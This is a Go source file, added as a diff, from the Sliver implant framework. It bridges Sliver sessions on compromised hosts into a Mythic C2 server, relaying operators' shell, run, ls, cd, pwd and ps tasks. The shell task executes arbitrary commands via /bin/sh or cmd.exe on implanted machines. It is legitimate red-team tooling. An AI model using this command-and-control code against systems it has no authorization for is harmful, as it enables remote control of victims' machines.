@@ -0,0 +1,427 @@
+package mythic
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/log"
+	"github.com/gofrs/uuid"
+	"github.com/kballard/go-shellquote"
+	"google.golang.org/grpc"
+)
+
+const (
+	// DefaultInterval - How often the bridge checks Mythic for new tasks
+	DefaultInterval = 5 * time.Second
+
+	// taskTimeout - Timeout of each task sent to a session
+	taskTimeout = 60 * time.Second
+	// maxMessageSize - Largest reply accepted from Mythic
+	maxMessageSize = 16 * 1024 * 1024
+)
+
+var (
+	mythicLog = log.NamedLogger("mythic", "bridge")
+
+	// Commands - The Mythic commands the bridge translates to Sliver tasks, the Mythic
+	// payload type the bridge checks in with should define the same commands
+	Commands = []string{"shell", "run", "ls", "cd", "pwd", "ps"}
+
+	// ErrUnknownCommand - The task's command has no Sliver equivalent
+	ErrUnknownCommand = errors.New("unknown command")
+)
+
+// Config - Where and how to connect to Mythic
+type Config struct {
+	// URL - The Mythic HTTP C2 profile's agent message endpoint
+	URL string
+	// PayloadUUID - UUID of the Mythic payload sessions check in as
+	PayloadUUID string
+	Interval    time.Duration
+	SkipVerify  bool
+}
+
+// Validate - Check the config before starting a bridge
+func (c *Config) Validate() error {
+	parsed, err := url.Parse(c.URL)
+	if err != nil {
+		return err
+	}
+	if parsed.Scheme != "http" && parsed.Scheme != "https" {
+		return fmt.Errorf("url must be http(s)")
+	}
+	if _, err := uuid.FromString(c.PayloadUUID); err != nil || len(c.PayloadUUID) != uuidLength {
+		return fmt.Errorf("invalid payload uuid '%s'", c.PayloadUUID)
+	}
+	if c.Interval < time.Second {
+		return fmt.Errorf("interval must be at least 1s")
+	}
+	return nil
+}
+
+// Operator - The operator the bridge tasks sessions as
+const Operator = "mythic"
+
+// Tasker - The tasks the bridge can send, implemented by an rpc client so tasks go
+// through the same audit log, opsec policies and target locks as an operator's tasks
+type Tasker interface {
+	Execute(context.Context, *sliverpb.ExecuteReq, ...grpc.CallOption) (*sliverpb.Execute, error)
+	Ls(context.Context, *sliverpb.LsReq, ...grpc.CallOption) (*sliverpb.Ls, error)
+	Cd(context.Context, *sliverpb.CdReq, ...grpc.CallOption) (*sliverpb.Pwd, error)
+	Pwd(context.Context, *sliverpb.PwdReq, ...grpc.CallOption) (*sliverpb.Pwd, error)
+	Ps(context.Context, *sliverpb.PsReq, ...grpc.CallOption) (*sliverpb.Ps, error)
+}
+
+// Bridge - Makes Sliver sessions appear as callbacks of a Mythic instance, Mythic
+// operators' tasks are translated to Sliver tasks and the output is posted back
+type Bridge struct {
+	config *Config
+	client *http.Client
+	tasker Tasker
+
+	mutex     *sync.Mutex
+	callbacks map[string]string // Session ID -> Callback UUID
+	busy      map[string]bool   // Session ID -> Tasks are running
+
+	stop chan struct{}
+	done chan struct{}
+}
+
+// Start - Start bridging sessions to Mythic
+func Start(config *Config, tasker Tasker) (*Bridge, error) {
+	err := config.Validate()
+	if err != nil {
+		return nil, err
+	}
+	bridge := &Bridge{
+		config: config,
+		client: &http.Client{
+			Timeout: 30 * time.Second,
+			Transport: &http.Transport{
+				Proxy:           http.ProxyFromEnvironment,
+				TLSClientConfig: &tls.Config{InsecureSkipVerify: config.SkipVerify},
+			},
+		},
+		tasker:    tasker,
+		mutex:     &sync.Mutex{},
+		callbacks: map[string]string{},
+		busy:      map[string]bool{},
+		stop:      make(chan struct{}),
+		done:      make(chan struct{}),
+	}
+	go bridge.loop()
+	return bridge, nil
+}
+
+// Stop - Stop bridging, the callbacks remain in Mythic
+func (b *Bridge) Stop() {
+	close(b.stop)
+	<-b.done
+}
+
+func (b *Bridge) loop() {
+	defer close(b.done)
+	ticker := time.NewTicker(b.config.Interval)
+	defer ticker.Stop()
+	for {
+		b.sync()
+		select {
+		case <-b.stop:
+			return
+		case <-ticker.C:
+		}
+	}
+}
+
+// sync - Check in new sessions, forget closed ones, and poll each callback for tasks
+func (b *Bridge) sync() {
+	sessions := map[string]*core.Session{}
+	for _, session := range core.Sessions.All() {
+		sessions[session.ID] = session
+	}
+
+	b.mutex.Lock()
+	for sessionID := range b.callbacks {
+		if _, ok := sessions[sessionID]; !ok {
+			delete(b.callbacks, sessionID)
+		}
+	}
+	b.mutex.Unlock()
+
+	for _, session := range sessions {
+		callbackID, err := b.callback(session)
+		if err != nil {
+			mythicLog.Warnf("Failed to check in session %s: %s", session.ID, err)
+			continue
+		}
+		if !b.setBusy(session.ID, true) {
+			continue
+		}
+		go func(session *core.Session, callbackID string) {
+			defer b.setBusy(session.ID, false)
+			err := b.poll(session, callbackID)
+			if err != nil {
+				mythicLog.Warnf("Failed to get tasks for session %s: %s", session.ID, err)
+			}
+		}(session, callbackID)
+	}
+}
+
+// setBusy - Returns false if the session's tasks are already running
+func (b *Bridge) setBusy(sessionID string, busy bool) bool {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	if busy && b.busy[sessionID] {
+		return false
+	}
+	if busy {
+		b.busy[sessionID] = true
+	} else {
+		delete(b.busy, sessionID)
+	}
+	return true
+}
+
+// callback - The session's callback UUID, checking the session in if needed
+func (b *Bridge) callback(session *core.Session) (string, error) {
+	b.mutex.Lock()
+	callbackID, ok := b.callbacks[session.ID]
+	b.mutex.Unlock()
+	if ok {
+		return callbackID, nil
+	}
+
+	reply := &checkinResp{}
+	err := b.send(b.config.PayloadUUID, checkinFor(session, b.config.PayloadUUID), reply)
+	if err != nil {
+		return "", err
+	}
+	if reply.Status != statusSuccess || len(reply.ID) != uuidLength {
+		return "", fmt.Errorf("checkin failed (%s)", reply.Status)
+	}
+	mythicLog.Infof("Session %s checked in as callback %s", session.ID, reply.ID)
+	b.mutex.Lock()
+	b.callbacks[session.ID] = reply.ID
+	b.mutex.Unlock()
+	return reply.ID, nil
+}
+
+func checkinFor(session *core.Session, payloadUUID string) *checkinMsg {
+	msg := &checkinMsg{
+		Action:         actionCheckin,
+		UUID:           payloadUUID,
+		OS:             session.OS,
+		User:           session.Username,
+		Host:           session.Hostname,
+		PID:            session.PID,
+		Architecture:   session.Arch,
+		IntegrityLevel: integrityLevel(session),
+		ProcessName:    filepath.Base(session.Filename),
+	}
+	if user := strings.SplitN(session.Username, "\\", 2); len(user) == 2 {
+		msg.Domain = user[0]
+	}
+	if session.Connection != nil {
+		host, _, err := net.SplitHostPort(session.Connection.RemoteAddress)
+		if err == nil {
+			msg.ExternalIP = host
+		}
+	}
+	return msg
+}
+
+// integrityLevel - Mythic's integrity levels, 2 (medium) unless running as root/SYSTEM
+func integrityLevel(session *core.Session) int {
+	if session.UID == "0" || strings.HasSuffix(strings.ToUpper(session.Username), "SYSTEM") {
+		return 3
+	}
+	return 2
+}
+
+// poll - Run the callback's tasks and post their output
+func (b *Bridge) poll(session *core.Session, callbackID string) error {
+	reply := &getTaskingResp{}
+	err := b.send(callbackID, &getTaskingMsg{Action: actionGetTasking, TaskingSize: -1}, reply)
+	if err != nil {
+		return err
+	}
+	for _, task := range reply.Tasks {
+		mythicLog.Infof("Running Mythic task %s (%s) on session %s", task.ID, task.Command, session.ID)
+		resp := &response{TaskID: task.ID, Completed: true}
+		output, err := RunTask(b.tasker, session, task)
+		if err != nil {
+			resp.UserOutput = err.Error()
+			resp.Status = statusError
+		} else {
+			resp.UserOutput = output
+		}
+		err = b.send(callbackID, &postResponseMsg{Action: actionPostResponse, Responses: []*response{resp}}, &postResponseMsg{})
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// RunTask - Translate a Mythic task to a Sliver task and format its output
+func RunTask(tasker Tasker, session *core.Session, task *Task) (string, error) {
+	ctx := context.Background()
+	request := &commonpb.Request{SessionID: session.ID, Timeout: int64(taskTimeout)}
+	params := taskParameters(task.Parameters)
+	switch task.Command {
+	case "shell":
+		if params == "" {
+			return "", errors.New("missing command")
+		}
+		req := &sliverpb.ExecuteReq{Path: "/bin/sh", Args: []string{"-c", params}, Output: true, Request: request}
+		if session.OS == "windows" {
+			req.Path = "C:\\Windows\\System32\\cmd.exe"
+			req.Args = []string{"/c", params}
+		}
+		return execute(tasker.Execute(ctx, req))
+	case "run":
+		args, err := shellquote.Split(params)
+		if err != nil {
+			return "", err
+		}
+		if len(args) == 0 {
+			return "", errors.New("missing program")
+		}
+		return execute(tasker.Execute(ctx, &sliverpb.ExecuteReq{Path: args[0], Args: args[1:], Output: true, Request: request}))
+	case "ls":
+		if params == "" {
+			params = "."
+		}
+		ls, err := tasker.Ls(ctx, &sliverpb.LsReq{Path: params, Request: request})
+		if err = responseErr(ls, err); err != nil {
+			return "", err
+		}
+		return formatLs(ls), nil
+	case "cd":
+		if params == "" {
+			return "", errors.New("missing path")
+		}
+		pwd, err := tasker.Cd(ctx, &sliverpb.CdReq{Path: params, Request: request})
+		if err = responseErr(pwd, err); err != nil {
+			return "", err
+		}
+		return pwd.Path, nil
+	case "pwd":
+		pwd, err := tasker.Pwd(ctx, &sliverpb.PwdReq{Request: request})
+		if err = responseErr(pwd, err); err != nil {
+			return "", err
+		}
+		return pwd.Path, nil
+	case "ps":
+		ps, err := tasker.Ps(ctx, &sliverpb.PsReq{Request: request})
+		if err = responseErr(ps, err); err != nil {
+			return "", err
+		}
+		return formatPs(ps), nil
+	}
+	return "", fmt.Errorf("%w '%s' (supported: %s)", ErrUnknownCommand, task.Command, strings.Join(Commands, ", "))
+}
+
+// taskParameters - Payload types with parameter definitions send the parameters
+// as a JSON object, the first of the known keys is used
+func taskParameters(params string) string {
+	params = strings.TrimSpace(params)
+	if !strings.HasPrefix(params, "{") {
+		return params
+	}
+	values := map[string]interface{}{}
+	if json.Unmarshal([]byte(params), &values) != nil {
+		return params
+	}
+	for _, key := range []string{"command", "path", "args", "arguments"} {
+		if value, ok := values[key].(string); ok {
+			return value
+		}
+	}
+	return ""
+}
+
+type implantResponse interface {
+	GetResponse() *commonpb.Response
+}
+
+func responseErr(resp implantResponse, err error) error {
+	if err != nil {
+		return err
+	}
+	if resp.GetResponse() != nil && resp.GetResponse().Err != "" {
+		return errors.New(resp.GetResponse().Err)
+	}
+	return nil
+}
+
+func execute(resp *sliverpb.Execute, err error) (string, error) {
+	if err = responseErr(resp, err); err != nil {
+		return "", err
+	}
+	output := string(resp.Stdout) + string(resp.Stderr)
+	if resp.Status != 0 {
+		output += fmt.Sprintf("\nExited with status %d", resp.Status)
+	}
+	return output, nil
+}
+
+func formatLs(ls *sliverpb.Ls) string {
+	if !ls.Exists {
+		return fmt.Sprintf("%s does not exist", ls.Path)
+	}
+	lines := []string{ls.Path}
+	for _, file := range ls.Files {
+		name := file.Name
+		if file.IsDir {
+			name += "/"
+		}
+		lines = append(lines, fmt.Sprintf("%s\t%d\t%s\t%s", file.Mode, file.Size,
+			time.Unix(file.ModTime, 0).UTC().Format(time.RFC3339), name))
+	}
+	return strings.Join(lines, "\n")
+}
+
+func formatPs(ps *sliverpb.Ps) string {
+	processes := ps.Processes
+	sort.Slice(processes, func(i, j int) bool {
+		return processes[i].Pid < processes[j].Pid
+	})
+	lines := []string{"PID\tPPID\tOwner\tExecutable"}
+	for _, process := range processes {
+		lines = append(lines, fmt.Sprintf("%d\t%d\t%s\t%s", process.Pid, process.Ppid, process.Owner, process.Executable))
+	}
+	return strings.Join(lines, "\n")
+}